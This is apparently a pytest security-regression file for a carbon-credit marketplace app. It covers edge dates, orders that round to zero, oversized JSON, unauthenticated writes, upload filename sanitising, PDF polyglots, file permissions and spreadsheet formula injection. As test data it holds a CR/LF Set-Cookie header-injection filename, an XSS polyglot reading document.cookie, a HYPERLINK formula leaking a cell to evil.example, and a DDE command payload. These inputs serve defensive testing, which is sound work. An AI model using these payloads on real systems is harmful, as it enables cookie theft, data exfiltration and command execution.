"""The smaller 500s and leaks of the audit, each as a promise: edge dates on every date filter, orders that
round to ¥0.00, CR/LF in upload names, the API authenticating before reading the body, a 4,300-digit
integer, an HTML file posing as a PDF, private files, formulas in factor names."""

from __future__ import annotations

import io
import stat
from decimal import Decimal

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from marketplace.extensions import db
from marketplace.registry.models import ProjectDocument
from tests.conftest import CsrfClient

EDGE_DATES = [("to", "9999-12-31"), ("from", "0001-01-01"), ("from", "9999-12-31"), ("to", "0001-01-01"),
              ("from", "9999-12"), ("to", "0001-01")]


@pytest.fixture
def bureau_client(factory, login):
    bureau = factory.user("bureau")
    client = login(bureau.email)
    client.token = factory.token(bureau)
    return client


@pytest.mark.parametrize(("name", "value"), EDGE_DATES)
def test_edge_dates_never_answer_500_on_the_public_registry_and_its_api(client, name, value):
    page = client.get(f"/registry/retirements?{name}={value}")
    assert page.status_code == 200
    api = client.get(f"/api/v1/public/retirements?{name}={value}")
    assert api.status_code in (200, 422), api.get_data(as_text=True)
    if api.status_code == 422:
        assert api.get_json()["error"]["field"] == name or name in api.get_data(as_text=True)


@pytest.mark.parametrize(("name", "value"), EDGE_DATES)
def test_edge_dates_never_answer_500_on_dashboards_exports_and_the_stats_api(app, bureau_client, factory, name,
                                                                             value):
    for url in (f"/bureau/dashboard?{name}={value}", f"/bureau/dashboard/export/by_buyer.csv?{name}={value}",
                f"/bureau/dashboard/export/all.xlsx?{name}={value}"):
        assert bureau_client.get(url).status_code in (200, 422), url
    api = bureau_client.get(f"/api/v1/stats/summary?{name}={value}",
                            headers={"Authorization": f"Bearer {bureau_client.token}"})
    assert api.status_code == 422 and api.get_json()["error"]["field"] == name
    for role, url in (("seller", "/sellers/dashboard"), ("buyer", "/buyers/dashboard")):
        client = app.test_client()
        assert CsrfClient(client).post_form("/login", {"email": factory.user(role).email,
                                                       "password": "correct horse battery"}).status_code == 302
        assert client.get(f"{url}?{name}={value}").status_code in (200, 422), url
        assert client.get(f"{url}/export/all.csv?{name}={value}").status_code in (200, 404, 422), url


def test_an_order_that_rounds_to_nothing_is_a_422_with_the_minimum(client, factory):
    listing = factory.listing(tonnes="100", price="33.33", min_order="0.0001")
    token = factory.token(factory.user("buyer"))
    response = client.post("/api/v1/orders", json={
        "quantity_tonnes": "0.0001", "listing_id": listing.id, "payment_method": "card", "beneficiary": "某公司",
        "retirement_reason": "测试"}, headers={"Authorization": f"Bearer {token}", "Idempotency-Key": "tiny-1"})
    assert response.status_code == 422, response.get_data(as_text=True)
    error = response.get_json()["error"]
    assert error["field"] == "quantity" and "1.00" in error["message"]
    enough = client.post("/api/v1/orders", json={
        "quantity_tonnes": "0.0300", "listing_id": listing.id, "payment_method": "card", "beneficiary": "某公司",
        "retirement_reason": "测试"}, headers={"Authorization": f"Bearer {token}", "Idempotency-Key": "tiny-2"})
    assert enough.status_code == 201 and Decimal(enough.get_json()["amount_cny"]) >= Decimal("1.00")


@pytest.mark.parametrize(("url", "body"), [
    ("/api/v1/orders", {"quantity_tonnes": "x"}),
    ("/api/v1/events", {"name": 1}),
    ("/api/v1/projects", {}),
    ("/api/v1/listings", {"batch_id": "nope"}),
    ("/api/v1/projects/1/review", {}),
    ("/api/v1/projects/1/batches", {}),
    ("/api/v1/orders/1/confirm-bank-transfer", {}),
])
def test_an_anonymous_write_is_refused_401_before_its_body_is_read(client, url, body):
    response = client.post(url, json=body, headers={"Idempotency-Key": "anon-1"})
    assert response.status_code == 401, (url, response.get_data(as_text=True))
    assert response.get_json()["error"]["code"] == "unauthorized"
    assert "field" not in response.get_json()["error"]


def test_an_anonymous_stats_query_is_401_not_422(client):
    assert client.get("/api/v1/stats/summary?from=nonsense").status_code == 401


@pytest.mark.parametrize("body", [
    '{"quantity_tonnes": ' + "9" * 4300 + "}",
    '{"listing_id": ' + "1" * 5000 + ', "quantity_tonnes": "1"}',
    "[" * 100_000 + "]" * 100_000,
])
def test_a_json_body_python_cannot_hold_is_a_400_not_a_500(client, factory, body):
    token = factory.token(factory.user("buyer"))
    response = client.post("/api/v1/orders", data=body, content_type="application/json",
                           headers={"Authorization": f"Bearer {token}", "Idempotency-Key": "huge-1"})
    assert response.status_code in (400, 422), response.get_data(as_text=True)[:300]
    assert response.get_json()["error"]["code"]


def _upload(client, project_id, data: bytes, filename: str):
    page = f"/sellers/projects/{project_id}"
    return client.post(f"{page}/documents", data={"csrf_token": CsrfClient(client).csrf_token(page), "kind": "other",
                                                  "file": (io.BytesIO(data), filename)},
                       content_type="multipart/form-data")


def test_a_name_with_cr_lf_is_stored_clean_and_the_document_downloads(app, factory, login):
    """Browsers escape CR/LF in a multipart filename, other clients need not: the service cleans the name."""
    from marketplace.accounts.models import User
    from marketplace.registry import service as registry
    from marketplace.registry.models import Project
    from tests.factories import MINIMAL_PDF

    project = factory.project(verified=False)
    with app.app_context():
        document = registry.add_document(db.session, db.session.get(Project, project.id),
                                         actor=db.session.get(User, project.seller.id), kind="other",
                                         filename="report\r\nSet-Cookie: a=b\r\n\u202egpj.pdf", data=MINIMAL_PDF)
        db.session.commit()
        assert "\r" not in document.original_name and "\n" not in document.original_name
        assert "\u202e" not in document.original_name and document.original_name.endswith(".pdf")
        clean_id = document.id
        # A name stored before the fix, with CR/LF in it, downloads too.
        old = registry.add_document(db.session, db.session.get(Project, project.id),
                                    actor=db.session.get(User, project.seller.id), kind="other", filename="old.pdf",
                                    data=MINIMAL_PDF)
        old.original_name = "old\r\nname.pdf"
        db.session.commit()
        old_id = old.id
    client = login(project.seller.email)
    for document_id in (clean_id, old_id):
        download = client.get(f"/sellers/documents/{document_id}")
        assert download.status_code == 200 and download.data == MINIMAL_PDF
        assert "\r" not in download.headers["Content-Disposition"]
        assert not any(cookie.startswith("a=b") for cookie in download.headers.getlist("Set-Cookie"))


@pytest.mark.parametrize(("name", "data"), [
    ("html polyglot", b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF\n"),
    ("text between markers", b"%PDF-1.7\n" + b"hello " * 100 + b"\n%%EOF"),
    ("no pages", b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>"
                 b"endobj\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"),
])
def test_a_file_that_only_looks_like_a_pdf_is_refused(app, factory, login, name, data):
    project = factory.project(verified=False)
    client = login(project.seller.email)
    response = _upload(client, project.id, data, "statement.pdf")
    assert response.status_code == 422, name
    assert "只接受 PDF" in response.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count()).select_from(ProjectDocument)) == 0


def _mode(path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_uploads_and_certificates_are_private_files_in_private_folders(app, factory, login):
    from marketplace.certificates.models import Certificate
    from marketplace.registry.service import document_path
    from tests.factories import MINIMAL_PDF
    from tests.test_certificates import issue

    project = factory.project(verified=False)
    client = login(project.seller.email)
    assert _upload(client, project.id, MINIMAL_PDF, "a.pdf").status_code == 302
    with app.app_context():
        path = document_path(db.session.scalar(sa.select(ProjectDocument)))
        assert _mode(path) == 0o600 and _mode(path.parent) == 0o700
    from tests.factories import orders_with_ids

    orders_with_ids(app, [1])
    cert = issue(app, factory.organisation("buyer"))
    assert _mode(cert.pdf) == 0o600 and _mode(cert.pdf.parent) == 0o700
    with app.app_context():
        assert db.session.get(Certificate, cert.id).pdf_path


def test_factor_names_a_spreadsheet_would_run_are_neutralised_in_the_activity_template(app, factory, login):
    from marketplace.footprint.emission_factors import load_default_factors
    from marketplace.footprint.models import EmissionFactor
    from marketplace.footprint.sheets import FACTOR_SHEET_NAMES, SHEET_NAMES

    with app.app_context():
        load_default_factors(db.session)
        factor = db.session.scalars(sa.select(EmissionFactor)).first()
        factor.name_zh = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
        factor.source = "+cmd|' /C calc'!A0"
        db.session.commit()
        code = factor.code
    client = login(factory.user("buyer").email)
    book = load_workbook(io.BytesIO(client.get("/buyers/events/template.xlsx").data))
    # The template is in the reader's language (Chinese here): factor name first, source fifth, code last.
    row = next(r for r in book[FACTOR_SHEET_NAMES["zh"]].iter_rows(values_only=True) if r[6] == code)
    assert row[0].startswith("'=") and row[4].startswith("'+")
    for sheet in book.worksheets:
        for cells in sheet.iter_rows():
            for cell in cells:
                assert cell.data_type != "f" or sheet.title in SHEET_NAMES.values(), (sheet.title, cell.coordinate)
